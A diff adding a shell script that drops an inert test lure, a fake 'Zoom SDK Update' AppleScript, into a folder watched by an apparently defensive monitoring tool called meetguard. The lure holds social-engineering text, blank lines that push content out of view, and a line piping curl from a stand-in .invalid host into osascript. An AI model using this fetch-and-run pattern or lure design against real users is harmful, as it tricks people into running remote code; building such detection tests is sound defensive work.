@@ -1,0 +1,20 @@
+#!/bin/sh
+# lure.sh: drops the inert test lure into the folder that `make run` watches,
+# as a browser would: under a temporary name, then renamed. It only looks like
+# a lure: its host does not exist (RFC 2606, .invalid) and nothing runs it.
+set -eu
+folder=$(cat "${MEETGUARD_RUN_DIR:-build/run}/folder" 2>/dev/null) || { echo "start \`make run\` in another terminal first" >&2; exit 1; }
+name="Zoom SDK Update.scpt"
+tmp="$folder/Unconfirmed 4711.crdownload"
+{
+  echo "-- Zoom SDK Update: your audio component is out of date."
+  echo "-- Press the Run button to update the Zoom SDK."
+  i=0
+  while [ $i -lt 120 ]; do echo; i=$((i + 1)); done
+  echo "-- meetguard test lure $(date +%s), inert"
+  echo 'do shell script "curl -fsSL https://zoom-sdk-update.invalid/fix | osascript"'
+} >"$tmp"
+mv "$tmp" "$folder/$name"
+echo "dropped: $folder/$name"
+echo "Look at http://${MEETGUARD_LISTEN:-127.0.0.1:8765}/ or: bin/meetguard alerts list --state ${MEETGUARD_RUN_DIR:-build/run}/agent"
+echo "Remove the file when you are done; meetguard only observes."
